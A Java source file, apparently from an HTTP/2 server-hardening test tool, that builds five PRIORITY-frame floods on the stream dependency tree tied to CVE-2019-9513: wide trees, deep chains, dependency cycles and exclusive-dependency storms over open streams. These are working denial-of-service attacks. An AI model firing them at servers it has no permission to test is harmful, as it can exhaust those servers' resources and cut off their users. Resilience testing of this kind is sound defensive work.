package dev.weir.attack;

import static dev.weir.attack.Floods.priority;
import static dev.weir.wire.testkit.Http2Wire.PRIORITY;

import java.util.List;

/** Attacks on the tree of RFC 7540 section 5.3 (CVE-2019-9513): as large, deep and restless as can be said. */
public final class PriorityTrees {
    private static final int OPEN = 50;

    private PriorityTrees() {}

    /** All of them. */
    public static List<Http2Attack> all() {
        return List.of(nodes(), chain(), cycles(), exclusiveStorm(), openStreams());
    }

    /** Nodes below the root, of streams that there are not. */
    public static Http2Attack nodes() {
        return Http2Attack.begun("priority tree of many nodes", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(PRIORITY, 0, 3 + 2 * i, priority(0, false, i));
            }
        });
    }

    /** Each below the one before it. */
    public static Http2Attack chain() {
        return Http2Attack.begun("priority chain", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(PRIORITY, 0, 3 + 2 * i, priority(1 + 2 * i, false, i));
            }
        });
    }

    /** Streams that are put below their own descendants, round and round. */
    public static Http2Attack cycles() {
        return Http2Attack.begun("priority cycles, CVE-2019-9513", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(PRIORITY, 0, 1 + 2 * (i % 5), priority(1 + 2 * ((i + 1) % 5), false, i));
            }
        });
    }

    /** Each takes all the others below it. */
    public static Http2Attack exclusiveStorm() {
        return Http2Attack.begun("storm of exclusive dependencies, CVE-2019-9513", (wire, _, size) -> {
            for (int i = 0; i < size; i++) {
                wire.frame(PRIORITY, 0, 1 + 2 * (i % 10), priority(0, true, i));
            }
        });
    }

    /** The same with streams that are open and have much to send. */
    public static Http2Attack openStreams() {
        return Http2Attack.begun("storm of exclusive dependencies of open streams, CVE-2019-9513", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * OPEN; stream += 2) {
                wire.get(stream, "/bytes/10000000");
            }
            for (int i = 0; i < size; i++) {
                int stream = 1 + 2 * (i % OPEN);
                int parent = 1 + 2 * ((i * 31 + 7) % OPEN);
                wire.frame(PRIORITY, 0, stream, priority(parent == stream ? 0 : parent, i % 3 != 0, i));
            }
        });
    }
}
